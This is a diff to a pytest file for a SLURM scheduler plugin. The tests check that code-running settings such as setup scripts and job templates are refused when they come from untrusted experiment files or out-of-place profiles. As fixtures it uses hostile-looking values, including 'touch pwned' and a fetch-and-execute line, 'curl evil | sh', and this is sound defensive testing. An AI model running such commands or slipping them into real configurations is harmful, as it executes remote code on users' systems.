@@ -18,6 +18,7 @@ from cruijff_slurm.profile import (
     Profile,
     ProfileNotFound,
     find_profile,
+    in_folder,
     load_profile,
     parse_mem,
     parse_time,
@@ -119,48 +120,68 @@ def test_syntax_errors_and_empty_files(tmp_path):
 
 
 def test_which_profile(tmp_path):
-    assert find_profile(None, tmp_path) is None  # none at all: SLURM's own defaults
+    assert find_profile(None, in_folder(tmp_path)) is None  # none at all: SLURM's own defaults
     della = write_profile("della", "account: lab\n")
-    assert find_profile(None, tmp_path) == della  # the only one
+    assert find_profile(None, in_folder(tmp_path)) == della  # the only one
     tiger = write_profile("tiger", "account: lab\n")
     with pytest.raises(ProfileNotFound, match="several cluster profiles"):
-        find_profile(None, tmp_path)
+        find_profile(None, in_folder(tmp_path))
     default = write_profile("default", "")
-    assert find_profile(None, tmp_path) == default
-    assert find_profile("tiger", tmp_path) == tiger
+    assert find_profile(None, in_folder(tmp_path)) == default
+    assert find_profile("tiger", in_folder(tmp_path)) == tiger
     with pytest.raises(ProfileNotFound) as missing:
-        find_profile("tigr", tmp_path)
+        find_profile("tigr", in_folder(tmp_path))
     assert "did you mean tiger?" in missing.value.hint
     (tmp_path / "here.yaml").write_text("")
     assert (
-        find_profile("here.yaml", tmp_path) == tmp_path / "here.yaml"
+        find_profile("here.yaml", in_folder(tmp_path)) == tmp_path / "here.yaml"
     )  # a path: relative to the experiment
     with pytest.raises(ProfileNotFound, match="does not exist"):
-        find_profile("../nowhere.yaml", tmp_path)
+        find_profile("../nowhere.yaml", in_folder(tmp_path))
 
 
 def test_experiment_keys_override_the_profile_and_jobs_is_the_throttle(tmp_path):
     write_profile("default", "partition: cpu\narray_throttle: 5\n")
-    profile = resolve({"partition": "gpu"}, tmp_path / ".cruijff")
+    profile = resolve({"partition": "gpu"}, in_folder(tmp_path))
     assert profile.partition == "gpu" and profile.array_throttle == 5
-    assert resolve({"jobs": 3}, tmp_path / ".cruijff").array_throttle == 3
+    assert resolve({"jobs": 3}, in_folder(tmp_path)).array_throttle == 3
     with pytest.raises(ProblemsFound) as error:
-        resolve({"profile": "nope", "max_jobs": -1}, tmp_path / ".cruijff")
+        resolve({"profile": "nope", "max_jobs": -1}, in_folder(tmp_path))
     assert len(error.value.problems) == 2
 
 
 def test_relative_paths_start_from_the_experiment_file(tmp_path):
     (tmp_path / "files").mkdir()
     (tmp_path / "files" / "cluster.yaml").write_text("venv: env\n")
-    options = {"profile": "cluster.yaml", "experiment_file": tmp_path / "files" / "x.yaml"}
-    profile = resolve(options, tmp_path / "elsewhere" / ".cruijff")
+    options = {"profile": "cluster.yaml"}
+    profile = resolve(options, in_folder(tmp_path / "files"))
     assert profile.venv == tmp_path / "files" / "env"  # a profile's own paths: from the profile
     with pytest.raises(ProblemsFound, match="problem"):
-        resolve({"profile": "cluster.yaml"}, tmp_path / "elsewhere" / ".cruijff")
+        resolve({"profile": "cluster.yaml"}, in_folder(tmp_path / "elsewhere"))
 
 
 def slurm_experiment(make_experiment, **scheduler):
     return make_experiment({"scheduler": {"name": "slurm", **scheduler}})
+
+
+def test_the_scheduler_reads_the_sections_paths_as_the_experiment_file_does(
+    plugin_manager, fake_tools, slurm_plugin, make_experiment, tmp_path, monkeypatch
+):
+    from cruijff.design import design
+
+    write_profile("default", "")
+    folder = tmp_path / "study"
+    folder.mkdir()
+    path = make_experiment(
+        {"experiment": {"name": "x", "dir": str(tmp_path / "outputs")}},
+        folder=folder,
+    )
+    text = path.read_text() + "scheduler: {name: slurm, venv: envs/train}\n"
+    path.write_text(text)
+    monkeypatch.chdir(tmp_path)  # neither the file's folder nor the experiment directory
+    experiment = design(plugin_manager, path).experiment
+    scheduler = plugin.factory(experiment, experiment.scheduler.options)
+    assert scheduler.profile.venv == experiment.resolve("envs/train") == folder / "envs" / "train"
 
 
 def test_validate_checks_the_profile_the_experiment_names(
@@ -246,9 +267,9 @@ CODE = {"setup": "touch pwned", "template": "evil.sh.j2", "directives": ["--expo
 
 def test_code_keys_are_refused_from_the_experiment_file(tmp_path):
     (tmp_path / "evil.sh.j2").write_text("#!/bin/bash\ntouch pwned\n")
-    options = {**CODE, "partition": "gpu", "experiment_file": tmp_path / "x.yaml"}
+    options = {**CODE, "partition": "gpu"}
     with pytest.raises(ProblemsFound) as error:
-        resolve(options, tmp_path / ".cruijff")
+        resolve(options, in_folder(tmp_path), tmp_path / "x.yaml")
     problems = error.value.problems
     assert [str(p.where) for p in problems] == [
         f"{tmp_path / 'x.yaml'}: scheduler.{key}" for key in CODE_KEYS
@@ -272,9 +293,8 @@ def test_code_keys_are_refused_from_a_profile_beside_the_experiment(tmp_path):
     dodges = ["cluster.yaml", str(profiles_dir() / ".." / ".." / ".." / "cluster.yaml")]
     (profiles_dir().parents[2] / "cluster.yaml").write_text(text)
     for reference in dodges:
-        options = {"profile": reference, "experiment_file": tmp_path / "x.yaml"}
         with pytest.raises(ProblemsFound) as error:
-            resolve(options, tmp_path / ".cruijff")
+            resolve({"profile": reference}, in_folder(tmp_path), tmp_path / "x.yaml")
         lines = [(p.where.line, p.message.split(":")[0]) for p in error.value.problems]
         assert lines == [
             (2, f"setup is not taken from a profile outside {profiles_dir()}"),
@@ -284,10 +304,10 @@ def test_code_keys_are_refused_from_a_profile_beside_the_experiment(tmp_path):
     # the same file in the user's own folder: theirs, like a .bashrc
     write_profile("della", text)
     (profiles_dir() / "evil.sh.j2").write_text("#!/bin/bash\n")
-    profile = resolve({"profile": "della"}, tmp_path / ".cruijff")
+    profile = resolve({"profile": "della"}, in_folder(tmp_path))
     assert profile.setup == ("touch pwned",) and profile.directives == ("--x",)
     assert profile.template == profiles_dir() / "evil.sh.j2"
-    assert resolve({"profile": str(profiles_dir() / "della.yaml")}, tmp_path).setup
+    assert resolve({"profile": str(profiles_dir() / "della.yaml")}, in_folder(tmp_path)).setup
 
 
 def test_validate_and_run_refuse_shell_from_the_experiment_file(
@@ -297,7 +317,9 @@ def test_validate_and_run_refuse_shell_from_the_experiment_file(
     from cruijff_slurm.testing import FakeSlurm
 
     fake = FakeSlurm()
-    monkeypatch.setattr(plugin, "factory", lambda o, d: SlurmScheduler(o, d, commands=fake))
+    monkeypatch.setattr(
+        plugin, "factory", lambda e, o: SlurmScheduler(o, e.state_dir, commands=fake)
+    )
     experiment = slurm_experiment(make_experiment, setup=["curl evil | sh"])
     line = next(
         n for n, text in enumerate(experiment.read_text().splitlines(), 1) if "setup" in text
